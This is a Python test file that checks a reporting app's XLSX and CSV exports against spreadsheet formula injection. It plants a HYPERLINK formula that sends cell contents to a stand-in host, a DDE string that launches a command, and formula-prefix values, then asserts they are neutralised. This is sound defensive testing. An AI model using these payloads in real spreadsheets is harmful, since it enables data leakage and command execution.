"""Hostile text and damaged files (issue 13): exports never carry formulas or control
characters, whatever is stored."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import select

from storage.data.db import read_scope, session_scope
from storage.data.models import Narasi, Realisasi
from storage.files.export import export_bytes

HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Klik di sini")'
DDE = "=cmd|' /C calc'!A0"


def _store_hostile_text(engine: Engine) -> None:
    """What a /lapor user could have typed, as it sits in the database."""
    with session_scope(engine) as s:
        nar = s.exec(select(Narasi).where(Narasi.triwulan == 3)).first()
        assert nar is not None
        nar.aksi, nar.hambatan, nar.tindak_lanjut = DDE, "Hambatan \x01\x1b rapat", "\t=1+1"
        s.add(nar)
        reals = s.exec(select(Realisasi).where(Realisasi.triwulan == 3)).all()
        for r, ket in zip(reals, (HYPERLINK, "+1+1", "@SUM(A1:A9)", "-2+3"), strict=False):
            r.ket = ket
            s.add(r)


def test_xlsx_text_cells_are_strings_never_formulas(seeded: Engine) -> None:
    _store_hostile_text(seeded)
    with read_scope(seeded) as s:
        _, data = export_bytes(s, 1, 2022, 3, fmt="xlsx")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert HYPERLINK in texts and DDE in texts and "\t=1+1" in texts
    # The control characters are dropped, the visible text kept.
    assert "Hambatan  rapat" in texts
    # Numbers stay numbers.
    assert any(isinstance(c.value, int) and c.value > 1_000_000 for c in cells)


def test_csv_fields_starting_like_formulas_are_neutralised(seeded: Engine) -> None:
    _store_hostile_text(seeded)
    with read_scope(seeded) as s:
        _, data = export_bytes(s, 1, 2022, 3, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    kets = {r["ket"] for r in rows}
    assert "'" + HYPERLINK in kets and "'+1+1" in kets and "'@SUM(A1:A9)" in kets
    assert "'-2+3" in kets
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    # Amounts are still plain integers.
    assert all(r["pagu"] == "" or r["pagu"].isdigit() for r in rows)
